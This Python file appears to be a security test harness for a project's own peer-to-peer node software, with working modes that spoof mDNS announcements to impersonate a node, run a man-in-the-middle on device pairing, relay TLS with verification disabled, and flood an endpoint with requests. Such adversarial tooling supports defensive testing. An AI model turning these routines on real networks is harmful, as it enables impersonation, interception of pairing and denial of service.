"""A machine that means harm, as a program: ``attacker.py DEED …``. It prints a JSON object a line.

``impostor NAME FINGERPRINT ADDRESS PORT``  announces itself as another machine, and notes who comes and what they say
``between NAME TARGET PORT CALLER``         pairs with both sides at once, as each other, with keys of its own
``mirror TARGET PORT``                      ends TLS with a certificate of its own and hands everything on
``ask ADDRESS``                             sends each request that comes as a line: method, path, headers, body, certificate
``flood ADDRESS SECONDS``                   says HELLO as often as it can
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import ssl
import sys
import tempfile
import threading
import time
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).parents[2]))

from aiohttp import ClientSession, web

from envelopes.codecs.emergence import as_object, encode, from_object
from envelopes.envelope import HELLO, Envelope, agent_id, new_id
from envelopes.identity.certificates import TlsMaterial, make_certificate
from envelopes.identity.keys import IdentityKey
from envelopes.identity.node_card import NodeCard, introduce
from neighborhoods.discovery.announcement import Announcement
from neighborhoods.pairing.service import PairingService
from rappd.federation import handshake_client
from twins.eggs.encryption import make_encryption_key

KEY = IdentityKey.generate()
SHOWN: TlsMaterial = make_certificate(KEY, now=datetime.now(UTC))


def say(**what: Any) -> None:
    sys.stdout.write(json.dumps(what) + "\n")  # in one piece: several threads say something
    sys.stdout.flush()


def server_context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    with tempfile.NamedTemporaryFile() as file:
        Path(file.name).write_bytes(SHOWN.key_pem + SHOWN.certificate_pem)
        context.load_cert_chain(file.name)
    return context


def impostor(name: str, fingerprint: str, address: str, port: str) -> None:
    threading.Thread(target=announce, args=(name, fingerprint, address, int(port)), daemon=True).start()
    context = server_context()
    with socket.create_server(("", int(port))) as server:
        say(event="ready")
        while True:
            threading.Thread(target=hear, args=(context, *server.accept()), daemon=True).start()


def hear(context: ssl.SSLContext, line: socket.socket, whose: tuple[str, int]) -> None:
    try:
        with context.wrap_socket(line, server_side=True) as safe:
            safe.settimeout(5)
            say(event="heard", by=whose[0], said=len(safe.recv(65_536)))
    except OSError:
        say(event="refused", by=whose[0])


def announce(name: str, fingerprint: str, address: str, port: int) -> None:
    """In its victim's name word for word, and under a second one, over and over."""
    from zeroconf import DNSAddress, DNSOutgoing, DNSPointer, DNSService, DNSText

    victim = Announcement(name, fingerprint, port)
    kind = victim.instance.partition(".")[2]
    parts = [f"{key}={value}".encode() for key, value in victim.properties().items()]
    text = b"".join(bytes([len(part)]) + part for part in parts)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        out.bind((address, 5353))
        while True:
            for instance, server in (
                (victim.instance, victim.server),
                (f"new-{victim.instance}", f"new-{victim.server}"),
            ):
                told = DNSOutgoing(0x8400)
                told.add_answer_at_time(DNSPointer(kind, 12, 1, 4500, instance), 0)
                told.add_answer_at_time(DNSService(instance, 33, 0x8001, 120, 0, 0, port, server), 0)
                told.add_answer_at_time(DNSText(instance, 16, 0x8001, 4500, text), 0)
                told.add_answer_at_time(DNSAddress(server, 1, 0x8001, 120, socket.inet_aton(address)), 0)
                for packet in told.packets():
                    out.sendto(packet, ("224.0.0.251", 5353))
            time.sleep(0.3)


async def between(name: str, target: str, port: str, caller: str) -> None:
    said, _ = await handshake_client.say_hello(target, hello())
    real = NodeCard.from_json(said["introduction"])
    as_target, as_caller = (
        introduce(KEY, SHOWN.certificate_der, make_encryption_key()[1], whom, int(port))
        for whom in (name, caller)
    )

    async def send(address: str, body: dict[str, Any]) -> Any:
        return (await handshake_client.post(address, "/pairing", json.dumps(body).encode()))[1]

    async def won(introduction: NodeCard, whose: str, address: str) -> None:
        say(event="paired", with_=introduction.name)

    towards_caller = PairingService(KEY, lambda: as_target, send, won, known=lambda _: None)
    towards_target = PairingService(KEY, lambda: as_caller, send, won, known=lambda _: None)
    agreeing: list[asyncio.Future[None]] = []

    async def envelopes(request: web.Request) -> web.Response:
        asked = from_object(await request.json())
        data = {"capabilities": [], "verbs": [HELLO], "name": name, "introduction": as_target.to_json()}
        reply = Envelope(asked.id, agent_id("brainstem", KEY.fingerprint), asked.sender, HELLO, data)
        return web.json_response(as_object(reply))

    async def pairing(request: web.Request) -> web.Response:
        body = await request.json()
        answer = await towards_caller.answer(body, request.remote or "")
        if body["step"] == "offer" and not agreeing:
            attempt = await towards_target.ask(real, target, "mine")
            agreeing.append(asyncio.ensure_future(agree(towards_target, attempt.id, "target")))
            agreeing.append(asyncio.ensure_future(agree(towards_caller, body["attempt"], "caller")))
        return web.json_response(answer)

    async def agree(pairings: PairingService, attempt: str, side: str) -> None:
        one = await pairings.wait(attempt, "asking", 60)
        say(event="words", side=side, words=list(one.words))
        with contextlib.suppress(Exception):
            await pairings.confirm(attempt, True, "mine")
        one = await pairings.wait(attempt, "waiting", 60)
        say(event="end", side=side, state=one.state)

    app = web.Application()
    app.add_routes([web.post("/envelopes", envelopes), web.post("/pairing", pairing)])
    await serve(app, int(port))


async def mirror(target: str, port: str) -> None:
    context = ssl._create_unverified_context()

    async def hand_on(request: web.Request) -> web.Response:
        headers = {"Content-Type": request.headers.get("Content-Type", "")}
        async with (
            ClientSession() as session,
            session.request(
                request.method,
                f"https://{target}{request.path_qs}",
                data=await request.read(),
                headers=headers,
                ssl=context,
            ) as got,
        ):
            say(event="handed on", path=request.path)
            return web.Response(status=got.status, body=await got.read(), content_type="application/json")

    app = web.Application()
    app.add_routes([web.route("*", "/{path:.*}", hand_on)])
    await serve(app, int(port))


async def serve(app: web.Application, port: int) -> None:
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "0.0.0.0", port, ssl_context=server_context()).start()
    say(event="ready")
    await asyncio.Event().wait()


async def ask(address: str) -> None:
    """Lines with the same certificate share a connection, for as long as the other side keeps it."""
    sessions: dict[str, tuple[ClientSession, ssl.SSLContext]] = {}
    lines = asyncio.StreamReader()
    await asyncio.get_running_loop().connect_read_pipe(lambda: asyncio.StreamReaderProtocol(lines), sys.stdin)
    while line := await lines.readline():
        wanted = json.loads(line)
        files = wanted.get("certificate") or []
        if str(files) not in sessions:
            context = ssl._create_unverified_context()
            if files == "own":
                with tempfile.NamedTemporaryFile() as file:
                    Path(file.name).write_bytes(SHOWN.key_pem + SHOWN.certificate_pem)
                    context.load_cert_chain(file.name)
            elif files:
                context.load_cert_chain(*files)
            sessions[str(files)] = ClientSession(), context
        session, context = sessions[str(files)]
        headers = {"Content-Type": "application/json; charset=utf-8", **wanted.get("headers", {})}
        try:
            async with session.request(
                wanted["method"],
                f"https://{address}{wanted['path']}",
                data=wanted.get("body"),
                headers=headers,
                ssl=context,
            ) as got:
                say(status=got.status, body=json.loads(await got.read()))
        except Exception as error:
            say(status=0, body=type(error).__name__)


def hello() -> bytes:
    data = {"capabilities": [], "name": "nobody"}
    return encode(Envelope(new_id(), agent_id("brainstem", KEY.fingerprint), "broadcast", HELLO, data))


async def flood(address: str, seconds: str) -> None:
    counted: Counter[int] = Counter()
    until = time.monotonic() + float(seconds)
    context = ssl._create_unverified_context()

    async def shout() -> None:
        async with ClientSession() as session:
            while time.monotonic() < until:
                try:
                    async with session.post(
                        f"https://{address}/envelopes",
                        data=hello(),
                        headers={"Content-Type": "application/json; charset=utf-8"},
                        ssl=context,
                    ) as got:
                        await got.read()
                        counted[got.status] += 1
                except OSError:
                    counted[0] += 1

    say(event="ready")
    await asyncio.gather(*(shout() for _ in range(16)))
    say(event="over", statuses=dict(counted))


if __name__ == "__main__":
    deed = globals()[sys.argv[1]]
    if asyncio.iscoroutinefunction(deed):
        asyncio.run(deed(*sys.argv[2:]))
    else:
        deed(*sys.argv[2:])
